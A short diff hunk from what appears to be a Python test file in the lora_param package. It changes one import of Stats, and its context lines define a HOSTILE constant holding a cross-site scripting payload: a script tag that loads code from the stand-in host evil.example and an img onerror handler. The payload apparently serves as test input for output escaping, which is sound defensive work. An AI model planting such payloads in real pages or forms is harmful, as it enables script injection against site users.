@@ -16,7 +16,7 @@ from html_samples import odd_rows, row, tuned
 
 import lora_param as lp
 from lora_param.errors import MissingPackageError, OutputError
-from lora_param.report.rows import Stats
+from lora_param.report.stats import Stats
 
 HOSTILE = (
     '"><script src=//evil.example/x></script><img onerror=a(1) src=http://evil.example/&amp;.w'
